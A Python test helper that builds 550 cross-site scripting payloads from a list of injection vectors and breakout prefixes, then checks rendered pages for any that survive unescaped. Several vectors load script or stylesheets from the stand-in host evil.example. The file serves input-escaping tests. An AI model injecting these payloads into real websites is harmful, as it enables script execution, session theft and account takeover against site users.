"""Texts that would do something if a page took them for HTML, and what a page must not hold then."""

import re
from collections.abc import Iterator
from itertools import product

from lxml import html

# What each would run
RUN = "RUN"
VECTORS = (
    "<script>RUN</script>",
    "<ScRiPt type=module>RUN</sCrIpT>",
    "<script src=//evil.example/RUN></script>",
    "<script/x>RUN</script/x>",
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN//",
    "<IMG SRC=x oNeRrOr='RUN'>",
    "<image href=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<math href=javascript:RUN>x</math>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.RUN>'></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<a href=javascript:RUN>x</a>",
    "<a href='java&#10;script:RUN'>x</a>",
    "<a href='&#106;avascript:RUN'>x</a>",
    "<a href=data:text/html,<script>RUN</script>>x</a>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<button formaction=javascript:RUN>x</button>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>x</select>",
    "<textarea autofocus onfocus=RUN>x</textarea>",
    "<details open ontoggle=RUN>x</details>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<marquee onstart=RUN>x</marquee>",
    "<div style=animation-name:x onanimationstart=RUN>x</div>",
    "<style>@import '//evil.example/RUN';</style>",
    "<link rel=stylesheet href=//evil.example/RUN>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href=//evil.example/RUN/>",
    "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<x onclick=RUN>x</x>",
    "<p onmouseover=RUN>x</p>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "%3Cscript%3ERUN%3C/script%3E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "{{ RUN }}{% debug %}${RUN}",
    "onmouseover=RUN x=",
)
# What it may have to break out of first
BEFORE = (
    "",
    '">',
    "'>",
    '" autofocus onfocus=RUN x="',
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "</option></select>",
    "</span></p>",
)
WORDS = "pwned"  # in every one of them, and in no page
# Attributes that hold text for people, or for a form
TEXT_ATTRIBUTES = frozenset({"value", "title", "aria-label", "placeholder", "alt", "content"})
# An address on this site, and a DOI's with all signs quoted
OWN_ADDRESS = re.compile(r"[?#]|/(?!/)|https://doi\.org/")


def payloads(longest: int = 1_000) -> list[str]:
    """550 of them, each known again by its number; or those that are no longer than this."""
    every = (
        f"{before}{vector}".replace(RUN, f"pwned({n})")
        for n, (before, vector) in enumerate(product(BEFORE, VECTORS))
    )
    return [payload for payload in every if len(payload) <= longest]


def faults(page: str) -> Iterator[str]:
    """The parts of a page that came from a payload and are no text."""
    if raw := [p for p in payloads() if re.search("[<>\"']", p) and p in page]:
        yield f"as it is: {raw[:3]}"
    for element in html.document_fromstring(page).iter():
        if not isinstance(element.tag, str):  # a comment
            if WORDS in (element.text or ""):
                yield f"a comment holds {element.text}"
            continue
        if element.tag in {"script", "style"} and WORDS in (element.text or ""):
            yield f"<{element.tag}> holds {element.text}"
        for name, value in element.attrib.items():
            is_text = name in TEXT_ATTRIBUTES or OWN_ADDRESS.match(value)
            if name.startswith("on") or (WORDS in value and not is_text):
                yield f"<{element.tag} {name}={value!r}>"


def shown(page: str) -> str:
    """The text that people read, and the values in forms."""
    document = html.document_fromstring(page)
    return " ".join(" ".join([document.text_content(), *document.xpath("//@value")]).split())
